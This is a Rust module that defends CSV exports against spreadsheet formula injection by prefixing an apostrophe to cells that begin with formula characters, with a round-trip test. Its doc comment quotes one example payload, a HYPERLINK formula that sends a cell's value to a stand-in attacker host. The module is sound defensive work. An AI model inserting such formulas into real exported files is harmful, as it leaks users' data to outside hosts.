//! Cells for spreadsheet programs, which take a text that begins like a formula for one and run it.
//!
//! A name such as `=HYPERLINK("http://evil.example/?"&A1)` is a name to this service and a formula to the programs that open such files.
//! In a file that is marked for them an apostrophe stands before each cell that begins so, and before each that begins
//! with an apostrophe itself, so that taking one off gives back every text. The mark is a last column without values,
//! [`COLUMN`]; `rollcall import` looks for it.

use std::borrow::Cow;

/// Name of the column that marks a file.
pub(crate) const COLUMN: &str = "spreadsheet";
const GUARD: char = '\'';
/// First characters of what is run, as OWASP lists them for CSV injection, their full-width forms included.
const FIRST: [char; 12] = ['=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}', GUARD];

/// A text as the cell of a marked file.
pub(crate) fn guard(text: &str) -> Cow<'_, str> {
    if text.starts_with(FIRST) { Cow::Owned(format!("{GUARD}{text}")) } else { Cow::Borrowed(text) }
}

/// The text of a cell of a marked file.
pub(crate) fn unguard(cell: &str) -> &str {
    cell.strip_prefix(GUARD).unwrap_or(cell)
}

#[cfg(test)]
mod tests {
    use super::{guard, unguard};

    #[test]
    fn no_guarded_cell_begins_like_a_formula_and_every_text_comes_back() {
        for text in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "'=1+1", "'", "''"] {
            let cell = guard(text);
            assert!(cell.starts_with('\''), "{text}");
            assert_eq!(unguard(&cell), text);
        }
        for text in ["", "Ada", "a=b", "ada@example.org", "O'Hara", " =1"] {
            assert_eq!((guard(text).as_ref(), unguard(text)), (text, text));
        }
    }
}
